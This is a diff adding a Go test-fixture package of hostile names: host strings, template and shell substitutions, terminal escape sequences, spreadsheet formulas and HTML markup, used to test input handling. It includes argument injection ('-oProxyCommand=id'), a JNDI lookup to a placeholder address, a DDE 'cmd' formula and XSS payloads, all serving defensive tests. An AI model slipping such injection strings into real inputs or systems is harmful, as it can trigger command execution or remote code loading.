@@ -1,0 +1,54 @@
+// Package hostile is a corpus of names that an instance or a tag may have and that do harm where they are not expected. The
+// tests of all programs use it.
+package hostile
+
+import "strings"
+
+// Hosts are names that other programs already know as hosts, or read as addresses.
+func Hosts() []string {
+	return []string{
+		"github.com", "localhost", "LocalHost", "localhost.localdomain", "127.0.0.1", "127.1", "2130706433", "0x7f000001", "192.0.2.7", "::1", "[::1]", "2001:db8::7",
+		"192.0.2.7:22", "192.0.2.0/24", "fe80::1%eth0", "bastion.corp.example", "example.com.", "all", "ungrouped", "_meta", "*", "*.example.com", "!web", "i-0001", "-oProxyCommand=id", "Host", "..",
+	}
+}
+
+// Templates are texts that a template engine or a shell would evaluate.
+func Templates() []string {
+	return []string{
+		"{{ lookup('pipe', 'touch TRACE') }}", "{% for x in range(9) %}x{% endfor %}", "{# comment #}", "{{.}}", "${jndi:ldap://192.0.2.1/x}", "$(touch TRACE)", "`touch TRACE`",
+		"#jinja2: variable_start_string:'[%'", "!unsafe x", "__ansible_vault", "%h%p%r", "${HOME}", "~root", "{{", "}}{{ 1 + 1",
+	}
+}
+
+// Escapes are texts that control a terminal, or change the order of what it shows.
+func Escapes() []string {
+	return []string{
+		"a\x1b[2Jb", "a\x1b]0;title\x07b", "a\x1b]52;c;cHduZWQ=\x07b", "a\u009b31mb", "a\u009d0;title\u009cb", "a\u202egpj.exe", "a\u2066b\u2069", "a\u200fb", "a\u0085b", "a\u2028b\u2029c",
+		"a\rb", "a\nb", "a\r\n\r\nb", "a\tb", "a\x00b", "a\x7fb", "a\ufeffb", "a\u200bb", "\xff\xfe", "a\bb",
+	}
+}
+
+// Formulas are texts that a spreadsheet would calculate.
+func Formulas() []string {
+	return []string{"=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "=HYPERLINK(\"http://192.0.2.1/\")", "＝1+1", " =1+1"}
+}
+
+// Markup are texts that would break out of a page that is put together carelessly.
+func Markup() []string {
+	return []string{
+		`</script><script>window.pwned = 1</script>`, `<img src="http://192.0.2.1/x" onerror="window.pwned = 1">`, `"><b>'`, `<!--`, `{{.}}`, "${1}`x", `生产环境 & "测试"`, `javascript:window.pwned=1`, `]]>`, `&lt;`,
+	}
+}
+
+// Odd are texts that are only unusual.
+func Odd() []string {
+	return []string{"", " ", "web server (1)", `"quoted" 'twice' \`, "a,b;c", "订单服务", "été", "e\u0301te\u0301", "😀", "a=b", "a.b", "a-b", "a_b", strings.Repeat("long-", 60), strings.Repeat("长", 300)}
+}
+
+// Names returns all of the above.
+func Names() (all []string) {
+	for _, list := range [][]string{Hosts(), Templates(), Escapes(), Formulas(), Markup(), Odd()} {
+		all = append(all, list...)
+	}
+	return all
+}
